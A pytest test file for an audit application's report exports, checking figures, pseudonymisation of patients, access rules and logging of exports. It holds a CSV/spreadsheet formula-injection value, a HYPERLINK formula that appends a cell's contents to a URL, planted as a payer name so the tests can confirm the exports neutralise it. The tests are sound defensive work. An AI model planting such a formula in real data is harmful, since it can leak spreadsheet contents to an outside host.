"""Reports that leave the house: the figures of the screen on paper and in the workbook, no patient, an event each."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import shutil
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from decimal import Decimal
from html import unescape
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from pypdf import PdfReader
from sqlalchemy import Engine, select

from audit import exporting, sampling
from audit.auditing import audits, running
from audit.errors import AccessError, InputError
from audit.estimates.ratios import Share
from audit.exporting.pseudonyms import Pseudonyms
from audit.exporting.tables import _says
from audit.figures import breakdowns, differences, results, upheld
from audit.loading import arrivals
from audit.store import database, schema
from audit.store.database import read
from tests.handed_in import NPI, as_csv, claim, month
from tests.page_runs import page_of, press
from tests.reviewing import add_people, review_all
from tests.stored import NOW

pytest_plugins = ["tests.databases"]
RATES = "pages/reports/error_rates.py"
SEED = "20261125090000000001"
EVIL = '=HYPERLINK("http://127.0.0.1/?"&A1)'


@pytest.fixture(scope="module")
def reviewed(sqlite_file: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A file with an audit, number 1, that is finished."""
    path = Path(shutil.copy(sqlite_file, tmp_path_factory.mktemp("reviewed") / "countersign.db"))
    engine = database.connect(f"sqlite:///{path}")
    finish(engine, add_people(engine))
    engine.dispose()
    return path


@pytest.fixture
def engine(reviewed: Path, tmp_path: Path) -> Iterator[Engine]:
    made = database.connect(f"sqlite:///{shutil.copy(reviewed, tmp_path / 'countersign.db')}")
    yield made
    made.dispose()


@pytest.fixture
def people(engine: Engine) -> dict[str, int]:
    with read(engine) as connection:
        return {row.username: row.id for row in connection.execute(select(schema.accounts))}


@pytest.fixture
def audit_id() -> int:
    return 1


@pytest.fixture(scope="module")
def reports(reviewed: Path) -> dict[bool, exporting.Report]:
    """The report without patients and the one with them."""
    engine = database.connect(f"sqlite:///{reviewed}")
    made = {named: exporting.report_of(engine, 1, made_by="Max", at=NOW, identified=named) for named in (False, True)}
    engine.dispose()
    return made


def finish(engine: Engine, people: dict[str, int]) -> int:
    """24 claims, 6 of them in error, all drawn and reviewed; the payer's name is a formula."""
    files = dict(month())
    rows = [claim(n, units=4 if n <= 6 else 2, payer_name=EVIL, patient_name=f"Anna Nym{n}") for n in range(1, 25)]
    born = [{**row, "patient_birth_date": "1941-07-05"} for row in rows]
    arrivals.take_in(engine, [*({**files, "claims.csv": as_csv(born)}).items()], account_id=people["rita"], at=NOW)
    run_id = running.screen(engine, account_id=people["rita"], at=NOW)
    with read(engine) as connection:
        plan = sampling.compliance_plan(audits.frame_of(connection, run_id, "compliance"), 24)
    by = {"account_id": people["max"], "at": NOW}
    made = audits.open_audit(engine, run_id, name="March", plan=plan, **by)
    audits.draw_seed(engine, made, seed=SEED, **by)
    with read(engine) as connection:
        drawn = list(connection.execute(select(schema.audit_claims.c.claim_version_id)).scalars())
    review_all(engine, drawn, people["rita"])
    return made


def made(engine: Engine, audit_id: int, form: str, by: int, **asked: object) -> bytes:
    return exporting.export(engine, audit_id, form, account_id=by, at=NOW, **asked).content


def on_paper(content: bytes) -> str:
    """The text of a PDF with single spaces: a line may break within a sentence."""
    pages = [page.extract_text() for page in PdfReader(io.BytesIO(content)).pages]
    return re.sub(r"\s+", " ", "\n".join(pages))


def everything(content: bytes) -> str:
    """All text of a zip, with what its zips hold."""
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        return "\n".join(file.read(name).decode() for name in file.namelist())


def workbook(report: exporting.Report) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(exporting.FORMS["xlsx"].write(report, NOW)))


def test_paper_workbook_csv_and_json_say_what_the_screen_says(
    engine: Engine, audit_id: int, reports: dict[bool, exporting.Report]
) -> None:
    now = results.results(engine, audit_id)
    paper, book = on_paper(exporting.FORMS["pdf"].write(reports[False], NOW)), workbook(reports[False])
    about = "\n".join(str(cell.value) for row in book["About"].iter_rows() for cell in row)
    told = json.loads(exporting.FORMS["json"].write(reports[False], NOW))
    for text in (paper, about):
        for says in (now.question, now.sentence, now.interval, *now.dollars.sentences, "24 claims, 0 excluded",
                     now.audit.plan.plan_sha256, now.audit.frame.sha256, SEED, "Max with Countersign"):  # fmt: skip
            assert re.sub(r"\s+", " ", says) in text
    therapists = differences.by_therapist(now).rows
    in_error = int(now.claims["in_error"].sum())
    assert in_error == 6
    assert [list(row) for row in book["Therapists"].values][1] == [
        "L. Ortiz", 24, in_error, therapists["says"].iloc[0]
    ]  # fmt: skip
    assert f"L. Ortiz 24 {in_error} {therapists['says'].iloc[0]}" in paper
    dollars = now.in_dollars.to_dict("records")
    assert [list(row) for row in book["Dollars"].values][1:] == [list(row.values()) for row in dollars]
    assert all(" ".join(row.values()) in paper for row in dollars)
    assert told["tables"]["Rules"]["rows"] == [
        {name: row[name] for name in ("rule", "title", "upheld", "dismissed", "open")}
        for row in breakdowns.with_titles(now.by_rule).to_dict("records")
    ]


def test_counts_add_up_from_the_single_rows(reports: dict[bool, exporting.Report]) -> None:
    """By a second way: every count of the workbook out of its own sheets of single claims and findings."""
    book = workbook(reports[False])
    sheets = {name: pd.DataFrame(list(book[name].values)[1:], columns=next(book[name].values))
              for name in book.sheetnames if name != "About"}  # fmt: skip
    claims, found = sheets["Claims"], sheets["Findings"]
    sample = sheets["Sample"]
    assert sample["drawn"].sum() == len(claims) == 24
    assert sample["in error"].sum() == (claims["in error"] == "yes").sum() == 6
    for row in sheets["Rules"].to_dict("records"):
        of_rule = found[found["rule"] == row["rule"]]
        for verdict in ("upheld", "dismissed", "open"):
            assert (of_rule["verdict"] == verdict).sum() == row[verdict], row["rule"]
    assert found[found["verdict"] == "upheld"]["claim"].nunique() == 6
    dollars = sum(Decimal(str(one)).quantize(Decimal("0.01")) for one in claims["overbilled"])
    assert f"${dollars:,.2f}" == sheets["Dollars"]["in the sample"].iloc[0]


def test_cells_are_typed_frozen_and_never_formulas(reports: dict[bool, exporting.Report]) -> None:
    book = workbook(reports[True])
    assert book.sheetnames == ["About", "Accuracies", "Sample", "Dollars", "Rules", "Therapists", "Payers", "Codes",
                               "Months", "Claims", "Findings"]  # fmt: skip
    assert all(book[name].freeze_panes == "A2" for name in book.sheetnames[1:])
    cells = [cell for page in book for row in page.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
    assert book["Payers"]["A2"].value == EVIL
    first = {head.value: cell for head, cell in zip(*book["Claims"].iter_rows(max_row=2), strict=True)}
    assert first["date of service"].is_date
    assert first["date of service"].number_format == "yyyy-mm-dd"
    assert first["overbilled"].data_type == "n"
    assert first["overbilled"].number_format == "$#,##0.00"
    lines = everything(exporting.FORMS["csv"].write(reports[True], NOW)).splitlines()
    assert not [cell for row in csv.reader(lines) for cell in row if cell.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("form", list(exporting.FORMS))
def test_without_a_reason_nobody_is_named(reports: dict[bool, exporting.Report], form: str) -> None:
    reading = {"pdf": on_paper, "json": bytes.decode}.get(form, everything)
    text = reading(exporting.FORMS[form].write(reports[False], NOW))
    text = text.replace(f"{NOW:%Y-%m-%d}", "").replace("2026-11-24T09:30:00Z", "")  # screened and made, not served
    for name in ("C01", "P01", "Nym", "1941", "reacher", "2026-03", "Mar 2026", NPI, "N01"):
        assert name not in text, name
    assert "2026" in text
    text = reading(exporting.FORMS[form].write(reports[True], NOW))
    assert "C01" in text
    assert "P01" in text or form == "pdf"
    assert "2026-03-01" in text or form == "xlsx"
    for name in ("Nym", "1941", "reacher"):
        assert name not in text, "names, birth dates and notes are never in it"


def test_pseudonyms_hold_within_a_file_and_not_between_two(
    engine: Engine, audit_id: int, people: dict[str, int]
) -> None:
    one, two = (json.loads(made(engine, audit_id, "json", people["max"]))["tables"] for _ in range(2))
    claims = [row["claim"] for row in one["Claims"]["rows"]]
    assert len(set(claims)) == 24
    assert {row["claim"] for row in one["Findings"]["rows"]} <= set(claims)
    assert not set(claims) & {row["claim"] for row in two["Claims"]["rows"]}
    names = Pseudonyms()
    assert names.of("claim", "17") == names.of("claim", "17") != names.of("patient", "17")


def test_each_export_is_an_event_with_its_digest(engine: Engine, audit_id: int, people: dict[str, int]) -> None:
    found = exporting.export(
        engine, audit_id, "json", account_id=people["lucy"], at=NOW, identified=True, reason="Suit"
    )
    assert found.name == f"audit-{audit_id}-identified.json"
    with read(engine) as connection:
        event = connection.execute(select(schema.events).order_by(schema.events.c.id.desc())).mappings().first()
    assert (event["kind"], event["subject"], event["account_id"]) == (
        "report exported", f"audit {audit_id}", people["lucy"]
    )  # fmt: skip
    assert json.loads(event["details"]) == {
        "form": "json", "patients": "named", "reason": "Suit", "sha256": hashlib.sha256(found.content).hexdigest()
    }  # fmt: skip


def test_who_may_take_what_out(engine: Engine, audit_id: int, people: dict[str, int]) -> None:
    for name in ("rita", "sam", "dora"):  # they review: a verdict could still be hidden from them
        with pytest.raises(AccessError):
            made(engine, audit_id, "json", people[name])
    made(engine, audit_id, "json", people["ada"])
    with pytest.raises(AccessError):
        made(engine, audit_id, "json", people["ada"], identified=True, reason="Curious")
    with pytest.raises(InputError, match="no reason"):
        made(engine, audit_id, "json", people["max"], identified=True, reason=" ")
    with read(engine) as connection:
        kinds = list(connection.execute(select(schema.events.c.kind)).scalars())
    assert kinds.count("report exported") == 1, "what is refused is not recorded as done"


def test_before_anything_is_drawn_or_reviewed(engine: Engine, people: dict[str, int]) -> None:
    arrivals.take_in(engine, [("claims.csv", as_csv([claim(30)]))], account_id=people["rita"], at=NOW)
    run_id = running.screen(engine, account_id=people["rita"], at=NOW, from_date=date(2026, 3, 30))
    by = {"account_id": people["max"], "at": NOW}
    flagged = audits.open_audit(engine, run_id, name="One", plan=None, **by)
    with read(engine) as connection:
        plan = sampling.simple_plan(audits.frame_of(connection, run_id), 1)
    frozen = audits.open_audit(engine, run_id, name="Frozen", plan=plan, **by)
    for audit_id, says in ((flagged, "1 claim of 1 not reviewed yet."), (frozen, "none drawn yet")):
        for form in exporting.FORMS:
            content = made(engine, audit_id, form, people["max"])
            if form == "pdf":
                assert says in on_paper(content)


def test_tables_of_the_report_are_those_of_the_page(
    engine: Engine, audit_id: int, people: dict[str, int], monkeypatch: pytest.MonkeyPatch
) -> None:
    app = page_of(engine, people["max"], RATES, monkeypatch, audit="1")
    shown = "\n".join(one.proto.body for one in app.get("html"))
    rows = {tuple(unescape(re.sub(r"<[^>]+>", "", cell)) for cell in re.findall(r"<td[^>]*>(.*?)</td>", row))
            for row in re.findall(r"<tr>(.*?)</tr>", shown)}  # fmt: skip
    report = exporting.report_of(engine, audit_id, made_by="Max", at=NOW)
    of_page = [one for one in report.sheets if one.name in ("Sample", "Dollars", "Rules", "Therapists")]
    assert len(of_page) == 4
    paper = on_paper(exporting.FORMS["pdf"].write(report, NOW))
    for one in of_page:
        for cells in one.written():
            assert tuple(cells) in rows, f"{one.name} on the page"
            assert " ".join(cells) in paper, f"{one.name} on paper"
    press(app, "Export")
    assert len(app.get("download_button")) == 1
    assert [one.label for one in app.checkbox] == ["Name claims and patients by their ids"]


def test_the_three_accuracies_are_those_of_the_page_and_of_plain_counts(
    engine: Engine, audit_id: int, reports: dict[bool, exporting.Report]
) -> None:
    """The whole frame was reviewed: each share is a plain fraction of what was billed."""
    sheets = {one.name: one for one in reports[False].sheets}
    said = {row["what"]: row["says"] for row in sheets["Accuracies"].rows}
    assert said["claims"] == "25 in 100: all of them were reviewed", "6 of 24"
    assert said["codes"] == "25 in 100: all of them were reviewed", "one line a claim"
    priced = upheld.with_billed(engine, results.results(engine, audit_id).claims)
    share = 100 * float(sum(priced["over"]) / sum(priced["billed"]))
    assert said["dollars billed too much"] == f"{share:.0f} in 100: all of them were reviewed"
    assert said["dollars billed too little"].startswith("0 in 100")
    assert sheets["Codes"].rows == (
        {"group": "97530", "reviewed": 24, "in_error": 6, "says": "25 in 100: all of them were reviewed"},
    )


def test_who_may_not_export_sees_no_button(
    engine: Engine, people: dict[str, int], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert "Export" not in {one.label for one in page_of(engine, people["rita"], RATES, monkeypatch).button}


def test_the_rate_of_claims_is_told_once_with_one_interval(engine: Engine, audit_id: int) -> None:
    """A part of the sample unreviewed or the frame larger: the table's range is that of the answer."""
    now = results.results(engine, audit_id)
    wider = replace(now, estimate=replace(now.estimate, lower=0.1304, upper=0.2271))
    share = Share(0.25, 0.13, 0.22, 24, 6, 0.95)
    assert _says(wider, "claims", share) == "about 25 in 100, reasonably 13 to 23"
    assert "reasonably 13 to 23 in 100" in wider.interval
